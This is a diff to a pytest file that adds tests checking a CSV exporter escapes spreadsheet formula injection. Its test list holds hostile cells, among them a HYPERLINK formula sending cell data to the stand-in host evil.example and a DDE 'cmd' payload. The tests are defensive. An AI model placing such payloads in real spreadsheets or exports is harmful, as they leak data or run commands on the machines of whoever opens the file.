@@ -15,7 +15,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from projections.errors import OutputRefused, QueryRefused
-from projections.read.export import WRITERS, write_file
+from projections.read.export import WRITERS, write_file, write_raw_csv
 
 INFINITE = 9_223_372_036_854_775_807
 
@@ -40,6 +40,41 @@ def read_back(content: bytes, folder: Path, columns: str = "*") -> tuple[list[st
         connection.execute("SET TimeZone = 'UTC'")
         found = connection.execute(f"SELECT {columns} FROM '{folder}/rows.parquet'")
         return [str(column[1]) for column in found.description or ()], found.fetchall()
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "-1+cmd|' /C calc'!A0",
+    "+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+]
+
+
+class TestCsv:
+    @pytest.mark.parametrize("cell", HOSTILE_CELLS)
+    def test_no_text_begins_a_formula(self, cell: str) -> None:
+        quoted = cell.replace("'", "''")
+        query = f"""SELECT '{quoted}' AS text, ['{quoted}'] AS list,
+            '{quoted}'::ENUM ('{quoted}') AS choice, 1 AS "{cell.replace('"', '""')}" """
+        rows = list(csv.reader(io.StringIO(written("csv", query).decode(), newline="")))
+        assert rows[1] == [f"'{cell}", json.dumps([cell], ensure_ascii=False), f"'{cell}", "1"]
+        assert rows[0][-1] == f"'{cell}"
+        raw = io.BytesIO()
+        write_raw_csv(raw, *query_result(query))
+        assert list(csv.reader(io.StringIO(raw.getvalue().decode(), newline="")))[1][0] == cell
+
+    def test_numbers_and_times_stay(self) -> None:
+        query = (
+            "SELECT -1 AS a, -1.5 AS b, '-infinity'::TIMESTAMPTZ AS c, -INTERVAL 1 DAY AS d, 'a-b=c' AS e, NULL AS f"
+        )
+        first = written("csv", query).decode().splitlines()[1].split(",")
+        assert first[:3] == ["-1", "-1.5", "-infinity"]
+        assert not first[3].startswith("'")
+        assert first[-2:] == ["a-b=c", ""]
 
 
 class TestParquet:
